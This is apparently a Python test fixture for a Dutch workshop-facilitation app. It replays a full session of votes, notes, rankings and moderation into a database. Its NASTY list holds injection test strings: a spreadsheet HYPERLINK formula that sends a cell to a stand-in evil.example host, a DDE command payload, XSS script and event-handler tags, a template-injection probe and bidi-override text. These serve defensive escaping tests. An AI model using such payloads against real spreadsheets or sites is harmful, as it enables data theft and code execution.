"""A workshop that was really held: everything that can happen in one, kept in a database by the real writer."""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from praatplaat.content import read_board
from praatplaat.workshop import events as e
from praatplaat.workshop.acts.along import WroteAlong
from praatplaat.workshop.acts.cards import CardAdded, CardRemoved
from praatplaat.workshop.acts.harvest import Missed
from praatplaat.workshop.events import FACILITATOR, Body
from praatplaat.workshop.forms.choice import Picked
from praatplaat.workshop.forms.dots import Voted
from praatplaat.workshop.forms.grid import Placed, square
from praatplaat.workshop.forms.notes import Noted
from praatplaat.workshop.forms.ranking import Ranked
from praatplaat.workshop.forms.scale import Scaled
from praatplaat.workshop.forms.steps import Stepped
from praatplaat.workshop.forms.words import Worded
from praatplaat.workshop.live import Live
from praatplaat.workshop.options import Option
from praatplaat.workshop.store import Store
from praatplaat.workshop.workshops import Workshops
from tests.beside import awaited

GONE = "oude-kas"
"""A facet that was on the board on the day itself, and is no more."""
CHALLENGES = ("ict-basis", "samenwerken", "tijd-ruimte")
NASTY = (
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
    "+31 20 123",
    "-1+1",
    "@SUM(1;1)",
    "  \u00a0=1+1",
    "＝1+1",
    "\t=cmd|' /C calc'!A0",
    "ja; =1+1;",
    "ja,=1+1,",
    'ja;"=1+1',
    "a | b || c \\| d \\",
    "regel een\nregel twee\r\n# kop",
    "# kop",
    "1. een",
    "2) twee",
    "- streep",
    "> citaat",
    "**vet** _schuin_ ~~weg~~ `code` ``",
    "[link](https://evil.example)",
    "![beeld](https://evil.example/x.png)",
    "<https://evil.example>",
    "https://evil.example/a_b?c=d&e",
    "www.evil.example",
    "evil.example",
    "piet@evil.example",
    "&lt;b&gt; &amp; &#60;",
    "[^1] [x]: http://evil.example",
    "<script>h=1</script>",
    "<img src=x onerror=h=1>",
    "</style></bdi><script>h=1</script>",
    "{{7*7}}{% raw %}",
    '"><svg onload=h=1>',
    "links\u202erechts\u2066\u200f om",
    "שלום עולם",
    "“zo”, zei zij: ‘nee’",
    "_x000D_ _x0041_",
    "===",
    "---",
    "a\u200db 👩\u200d🌾",
    "    code",
    "$x^2$",
)
ANNE, BRAM, CEES, DIRK, EEFJE, FLOOR = (f"deelnemer-{letter}" for letter in "abcdef")


OWN, ABOUT_OWN = "=1+1 | *eigen*", "**Wij** willen <dit>"
"""What stands on the card of the room's own, and what it means."""
ALONG = "Voor wie geen telefoon heeft"
"""What the facilitator wrote along."""


@dataclass
class Clock:
    """A clock that is set by hand; it begins on 20 November 2026 at 13:00 UTC."""

    now: int = 1_795_179_600

    def __call__(self) -> float:
        return self.now


@dataclass
class Held:
    """A workshop under way, as its writer sees it; every act comes 61 seconds after the one before."""

    workshops: Workshops
    live: Live
    clock: Clock
    acts: int = field(default=0)

    async def does(self, who: str, body: Body) -> int:
        """Let somebody do something, and return its sequence."""
        self.acts += 1
        self.clock.now += 61
        return await self.workshops.act(self.live, who, f"op-{self.acts}", body)

    async def round(self, name: str, form: Any, question: str, **more: Any) -> int:
        """Add a round and open it; return the sequence of that."""
        await self.does(FACILITATOR, e.RoundAdded(round=name, form=form, question=question, **more))
        return await self.does(FACILITATOR, e.RoundOpened(round=name))


def hold(
    database: str | Path, *, lang: str = "nl", days: int = 30, clock: Clock | None = None, ended: bool = True
) -> str:
    """Hold the workshop in `database` and return its id."""
    return awaited(_hold(database, lang, days, clock or Clock(), ended))


async def _hold(database: str | Path, lang: str, days: int, clock: Clock, ended: bool) -> str:
    facets = {*read_board().by_id, GONE}
    workshops = Workshops(Store(database), lambda: facets, clock=clock)
    await workshops.start()
    live, _ = await workshops.begin("De proeftuin", lang, "wie-leidt", days)
    held = Held(workshops, live, clock)
    for who in (ANNE, BRAM, CEES, DIRK, EEFJE, FLOOR):
        await held.does(who, e.Joined())
    await _chooses(held)
    await _writes(held)
    await _plans(held)
    await _weighs(held)
    await _adds_cards(held)
    await _walks(held)
    await held.does(FACILITATOR, e.DeviceRemoved(device=EEFJE))
    await held.does(FLOOR, e.Left())
    if ended:
        await workshops.end(live)
    await workshops.stop()
    return live.record.id


async def _chooses(held: Held) -> None:
    await held.round(
        "dots", "dots", "Welke uitdagingen herken je?", facets=(*CHALLENGES, GONE), dots=3, route="werksessie", step=2
    )
    for who, facets in (
        (ANNE, CHALLENGES),
        (BRAM, CHALLENGES[:1]),
        (CEES, (CHALLENGES[0], GONE)),
        (EEFJE, CHALLENGES),
        (FLOOR, CHALLENGES[1:2]),
    ):
        for facet in facets:
            await held.does(who, Voted(round="dots", facet=facet, on=True))
    await held.does(ANNE, Voted(round="dots", facet=CHALLENGES[2], on=False, count=1))
    await held.does(FACILITATOR, e.RoundClosed(round="dots"))
    await held.round("scale", "scale", "Hoe ver zijn jullie? (1 = begin | 5 = klaar)", facets=CHALLENGES)
    for who, value in ((ANNE, 2), (BRAM, 5), (CEES, 4), (EEFJE, 1)):
        await held.does(who, Scaled(round="scale", facet=CHALLENGES[0], value=value))
    await held.does(BRAM, Scaled(round="scale", facet=CHALLENGES[0], value=4, count=1))
    await held.does(DIRK, Scaled(round="scale", facet=CHALLENGES[1], value=3))
    await held.does(DIRK, Scaled(round="scale", facet=CHALLENGES[1], value=None, count=1))
    reset = await held.does(FACILITATOR, e.RoundReset(round="scale"))
    await held.does(FACILITATOR, e.Undone(sequence=reset))
    await held.does(FACILITATOR, e.RoundClosed(round="scale"))


async def _writes(held: Held) -> None:
    await held.round("nasty", "notes", "=1+1 | <b>Wat</b> zie *jij*?", facets=(), moderated=False, live=True)
    for number, text in enumerate(NASTY):
        await held.does(
            (ANNE, BRAM, CEES)[number % 3],
            Noted(round="nasty", note=f"nasty-{number}", text=text, facet=CHALLENGES[0] if number % 2 else None),
        )
    await held.round("notes", "notes", "Wat houdt jou tegen?", facets=CHALLENGES, live=True)
    for note, who, text in (
        ("good", ANNE, "Te weinig tijd"),
        ("same", BRAM, "Geen tijd"),
        ("also", CEES, "Tijd ontbreekt"),
        ("hidden", DIRK, "GEHEIM iets naars"),
        ("behind-hidden", DIRK, "GEHEIM ook naar"),
        ("waits", CEES, "Nog niet bekeken"),
        ("changed", BRAM, "Eerst zo"),
        ("gone", DIRK, "GEHEIM teruggenomen"),
        ("removed", EEFJE, "GEHEIM van wie weg is"),
        ("less", BRAM, "Geen geld"),
    ):
        await held.does(who, Noted(round="notes", note=note, facet=CHALLENGES[1], text=text))
    for note, shown in (("less", True), ("good", True), ("same", True), ("changed", True), ("removed", True)):
        await held.does(FACILITATOR, e.NoteJudged(note=note, shown=shown))
    for who, note in ((BRAM, "good"), (DIRK, "good"), (EEFJE, "good"), (CEES, "same"), (DIRK, "same")):
        await held.does(who, e.Liked(note=note, on=True))
    await held.does(DIRK, e.Withdrawn(note="gone"))
    await held.does(FACILITATOR, e.NotesMerged(note="same", into="good"))
    await held.does(FACILITATOR, e.NotesMerged(note="behind-hidden", into="hidden"))
    await held.does(FACILITATOR, e.NoteJudged(note="hidden", shown=False))
    await held.does(BRAM, Noted(round="notes", note="changed", facet=CHALLENGES[1], text="Toch anders", count=1))
    await held.does(FACILITATOR, e.RoundRevealed(round="notes"))


async def _plans(held: Held) -> None:
    await held.round("steps", "steps", "Wat doe je morgen?", facets=(), moderated=False)
    for number, text in enumerate(NASTY):
        await held.does(
            (ANNE, BRAM, CEES)[number % 3],
            Stepped(round="steps", note=f"step-{number}", who=text[:60], what=text, when="=NOW()", facet=CHALLENGES[0]),
        )
    await held.does(DIRK, Stepped(round="steps", note="bad-step", who="GEHEIM", what="GEHEIM plan", when="nooit"))
    await held.does(FACILITATOR, e.NoteJudged(note="bad-step", shown=False))
    opened = await held.round("asked", "steps", "Wat vraag je je baas?", facets=())
    await held.does(
        ANNE, Stepped(round="asked", note="asked-step", who="wij", what="Nog niet bekeken stap", when="1 mei")
    )
    await held.does(FACILITATOR, e.Undone(sequence=opened))
    await held.does(
        FACILITATOR, e.RoundAdded(round="never", form="dots", question="Voor een andere keer", facets=CHALLENGES)
    )


async def _weighs(held: Held) -> None:
    """Hold a round of each form in which the room chooses among answers, puts in order, places, or gives words."""
    options = (Option(id="ja", words="=1+1 | *ja*"), Option(id="nee", words="<b>nee</b>"))
    await held.round("choice", "choice", "Kiezen we?", options=options)
    for who, option in ((ANNE, "ja"), (BRAM, "nee"), (CEES, "nee"), (EEFJE, "nee")):
        await held.does(who, Picked(round="choice", option=option, on=True))
    await held.does(BRAM, Picked(round="choice", option="ja", on=True, count=1))
    await held.round("ranking", "ranking", "Wat eerst?", facets=CHALLENGES)
    for who, order in ((ANNE, CHALLENGES), (BRAM, CHALLENGES[::-1]), (CEES, CHALLENGES), (DIRK, CHALLENGES)):
        await held.does(who, Ranked(round="ranking", order=order))
    await held.does(DIRK, Ranked(round="ranking", order=(), count=1))
    await held.round("grid", "grid", "Waar ligt het?", facets=CHALLENGES, low="=1+1", top="<b>veel</b>")
    for who, facet, x, y in ((ANNE, 0, 1, 5), (BRAM, 0, 4, 5), (CEES, 1, 2, 2)):
        await held.does(who, Placed(round="grid", facet=CHALLENGES[facet], value=square(x, y)))
    await held.does(CEES, Placed(round="grid", facet=CHALLENGES[1], value=None, count=1))
    await held.round("words", "words", "In een woord?", moderated=False)
    for who, word in ((ANNE, "Tijd"), (BRAM, "tijd!"), (CEES, "=1+1"), (DIRK, "GEHEIM woord")):
        await held.does(who, Worded(round="words", note=f"word-{who[-1]}", word=word))
    await held.does(FACILITATOR, e.NoteJudged(note=f"word-{DIRK[-1]}", shown=False))
    await held.does(FACILITATOR, e.RoundRevealed(round="words"))


async def _adds_cards(held: Held) -> None:
    """Let the room make two cards of its own, of which one goes, and ask about the other; and write along for somebody."""
    for card, label in (("own-een", OWN), ("own-twee", "GEHEIM weg")):
        await held.does(
            FACILITATOR, CardAdded(card=card, label=label, about=ABOUT_OWN, of_kind="challenge", facets=CHALLENGES[:1])
        )
    await held.does(FACILITATOR, CardRemoved(card="own-twee"))
    await held.round("own", "dots", "En dit?", facets=("own-een", CHALLENGES[0]))
    for who in (ANNE, CEES, EEFJE):
        await held.does(who, Voted(round="own", facet="own-een", on=True))
    await held.round("along", "notes", "Wat mist er?", facets=("own-een",), live=True)
    await held.does(
        FACILITATOR, WroteAlong(round="along", note="her-note", form="notes", facet="own-een", words={"text": ALONG})
    )


async def _walks(held: Held) -> None:
    for facet, route, step in (
        (None, "werksessie", 1),
        (CHALLENGES[0], "werksessie", 2),
        (GONE, None, None),
        (None, "oude-route", 9),
    ):
        await held.does(FACILITATOR, e.Led(on=True, facet=facet, route=route, step=step))
    await held.does(FACILITATOR, e.Led(on=False))
    await held.does(FACILITATOR, Missed(roles=("directeur", "oude-rol")))
